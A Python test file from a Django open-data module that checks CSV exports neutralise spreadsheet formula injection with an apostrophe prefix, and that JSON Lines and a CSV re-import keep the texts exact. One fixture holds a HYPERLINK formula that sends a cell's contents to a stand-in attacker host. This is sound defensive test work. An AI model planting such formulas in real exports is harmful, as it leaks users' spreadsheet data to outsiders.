"""A text that a spreadsheet would run as a formula is text in the CSV export, comes back as
it was through the import, and is exact in JSON Lines; the CSV for Excel in Swedish."""

import csv
import io
import json

import pytest

from innovationskraft.cases.models import Case
from innovationskraft.opendata.services import cases_import
from innovationskraft.opendata.tests.conftest import exported, plan_of
from innovationskraft.opendata.tests.test_round_trip import empty_the_library

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?"&A1;"Klicka")'
TEXTS = {
    "title": FORMULA,
    "summary": "+46 8 123 45 67 är numret till växeln.",
    "description": "-1 är inget tal här",
    "user_involvement": "@alla fick säga sitt",
    "barriers_text": "-- se bilaga --",
    "enablers_text": "'=redan med apostrof",
}


@pytest.fixture
def risky(make_case):
    return make_case(status="published", tags=["=1+1", "vanlig"], **TEXTS)


def csv_row(text: str, delimiter: str = ",") -> dict:
    [row] = csv.DictReader(io.StringIO(text), delimiter=delimiter)
    return row


def test_a_text_a_spreadsheet_would_run_as_a_formula_starts_with_an_apostrophe(risky):
    row = csv_row(exported("csv"))
    for name, text in TEXTS.items():
        assert row[name] == "'" + text, name
    assert row["tags"] == "'=1+1|vanlig"
    assert row["identifier"] == risky.identifier
    assert row["start_year"] == ""


def test_the_json_lines_export_keeps_every_text_exactly(risky):
    record = json.loads(exported("jsonl"))
    for name, text in TEXTS.items():
        assert record[name] == text, name
    assert record["tags"] == ["=1+1", "vanlig"]


def test_a_csv_export_imported_again_gives_every_text_back_exactly(risky):
    first = exported("csv")
    empty_the_library()

    result = cases_import(actor=None, plan=plan_of(first, "csv"))

    assert result.created == 1
    case = Case.objects.get()
    for name, text in TEXTS.items():
        assert getattr(case, name) == text, name
    assert sorted(case.tags.values_list("name", flat=True)) == ["=1+1", "vanlig"]
    assert exported("csv") == first


def test_the_csv_for_excel_in_swedish_has_a_byte_order_mark_and_semicolons(client, risky):
    response = client.get("/oppna-data/innovationer.csv?dialect=excel-sv")
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeffidentifier;url;slug;title;")
    row = csv_row(text.removeprefix("\ufeff"), delimiter=";")
    assert row["title"] == "'" + FORMULA
    assert row["identifier"] == risky.identifier


def test_the_plain_csv_has_commas_and_no_byte_order_mark(client, risky):
    response = client.get("/oppna-data/innovationer.csv")
    assert b"".join(response.streaming_content).decode("utf-8").startswith("identifier,url,")


def test_the_open_data_page_offers_the_csv_for_excel_in_swedish(client):
    page = client.get("/oppna-data/").content.decode()
    assert 'href="/oppna-data/innovationer.csv?dialect=excel-sv"' in page
